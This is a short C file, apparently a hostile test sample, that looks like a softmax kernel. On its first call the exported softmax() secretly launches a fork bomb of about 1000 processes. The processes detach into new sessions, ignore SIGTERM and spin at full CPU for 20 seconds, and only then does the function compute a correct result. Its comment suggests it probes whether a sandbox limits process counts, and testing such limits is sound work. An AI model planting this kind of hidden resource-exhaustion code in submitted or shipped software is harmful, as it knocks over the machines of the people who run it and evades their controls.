/* Every process starts others, ten generations deep: 1000 of them, if nothing counts them. Each
 * ends after 20 seconds, should no jail do it. */
#define _GNU_SOURCE
#include <math.h>
#include <signal.h>
#include <stdint.h>
#include <unistd.h>

static void naive(const float* x, float* y, int64_t rows, int64_t cols) {
  for (int64_t r = 0; r < rows; ++r, x += cols, y += cols) {
    float most = -INFINITY;
    double sum = 0;
    for (int64_t i = 0; i < cols; ++i) most = fmaxf(most, x[i]);
    for (int64_t i = 0; i < cols; ++i) sum += y[i] = expf(x[i] - most);
    for (int64_t i = 0; i < cols; ++i) y[i] = (float)(y[i] / sum);
  }
}

static void attack(void) {
  for (int generation = 0; generation < 10; ++generation) {
    if (fork() == 0) {
      setsid();
      signal(SIGTERM, SIG_IGN);
      alarm(20);
      continue;
    }
  }
  alarm(20);
}

static void spin(void) {
  for (;;) {
  }
}

void softmax(const float* x, float* y, int64_t rows, int64_t cols) {
  static int done;
  const pid_t first = getpid();
  if (!done++) attack();
  if (getpid() != first) spin();
  naive(x, y, rows, cols);
}
